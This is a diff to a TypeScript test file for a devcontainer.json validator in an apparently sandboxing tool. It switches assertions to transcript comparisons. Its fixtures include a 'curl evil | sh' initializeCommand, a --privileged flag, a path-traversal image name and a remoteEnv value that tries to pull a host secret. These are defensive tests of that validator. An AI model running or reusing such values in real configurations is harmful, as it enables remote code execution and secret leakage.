@@ -6,6 +6,7 @@ import { join } from "node:path";
 import { afterEach, describe, expect, it } from "vitest";
 import { EnclaveError } from "../errors.js";
 import { checkDevcontainer, envEntries, parseDevcontainerText, readDevcontainer } from "./devcontainer.js";
+import { expectTranscript } from "@enclave/test-kit/transcript.js";
 
 const FILE = ".devcontainer/devcontainer.json";
 
@@ -46,7 +47,7 @@ describe("devcontainer.json", () => {
     expect(cfg.env).toEqual([{ key: "A", value: "b" }]);
   });
 
-  it("says where a syntax error is", () => {
+  it("says where a syntax error is", async () => {
     const err = (() => {
       try {
         parseDevcontainerText(FILE, '{\n  "image": "x"\n  "build": {}\n}');
@@ -56,7 +57,7 @@ describe("devcontainer.json", () => {
       return undefined;
     })();
     expect(err?.code).toBe("devcontainer_invalid");
-    expect(err?.message).toMatch(/line 3, column 3/);
+    await expectTranscript(err?.message ?? "", "transcripts/devcontainer-config/syntax-error.txt");
   });
 
   it("resolves build paths from the config's folder and keeps them inside the workspace", () => {
@@ -94,7 +95,7 @@ describe("devcontainer.json", () => {
     for (const image of ["a b", "x/../../127.0.0.1:1/y", "Upper", "a?b"]) expect(codeOf(() => checkDevcontainer(FILE, { image })), image).toBe("invalid_arguments");
   });
 
-  it("does not honour fields that would weaken the enclosure or run on the host, and says so", () => {
+  it("does not honour fields that would weaken the enclosure or run on the host, and says so", async () => {
     const cfg = checkDevcontainer(FILE, {
       image: "a",
       runArgs: ["--privileged"],
@@ -104,15 +105,11 @@ describe("devcontainer.json", () => {
       initializeCommand: "curl evil | sh",
       customizations: { vscode: {} },
     });
-    expect(cfg.notes.join("\n")).toMatch(/runArgs is not honoured/);
-    expect(cfg.notes.join("\n")).toMatch(/privileged is not honoured/);
-    expect(cfg.notes.join("\n")).toMatch(/capAdd is not honoured/);
-    expect(cfg.notes.join("\n")).toMatch(/mounts is not honoured/);
-    expect(cfg.notes.join("\n")).toMatch(/initializeCommand is not honoured: it would run on the host/);
-    expect(cfg.notes.join("\n")).not.toMatch(/customizations/);
+    // One note per field left out (and none for customizations, which is the editor's business).
+    await expectTranscript(`${cfg.notes.join("\n")}\n`, "transcripts/devcontainer-config/dropped-fields.txt");
   });
 
-  it("fills in the image's environment and never the host's", () => {
+  it("fills in the image's environment and never the host's", async () => {
     process.env.BYO_HOST_SECRET = "s3cret";
     const cfg = checkDevcontainer(FILE, {
       image: "a",
@@ -120,7 +117,7 @@ describe("devcontainer.json", () => {
       remoteEnv: { PATH: "${containerEnv:PATH}:/extra", WS: "${containerWorkspaceFolder}", LEAK: "x${localEnv:BYO_HOST_SECRET}y", DFLT: "${containerEnv:NOPE:fallback}" },
     });
     expect(envEntries(cfg, ["PATH=/usr/bin"])).toEqual(["TOOLS=/opt/tools", "PATH=/usr/bin:/extra", "WS=/workspace", "LEAK=xy", "DFLT=fallback"]);
-    expect(cfg.notes.join("\n")).toMatch(/remoteEnv\.LEAK: \$\{local…\} variables are left empty/);
+    await expectTranscript(`${cfg.notes.join("\n")}\n`, "transcripts/devcontainer-config/image-environment.txt");
   });
 
   it("postCreateCommand: a string runs under sh, an array as argv, an object as named steps in order", () => {
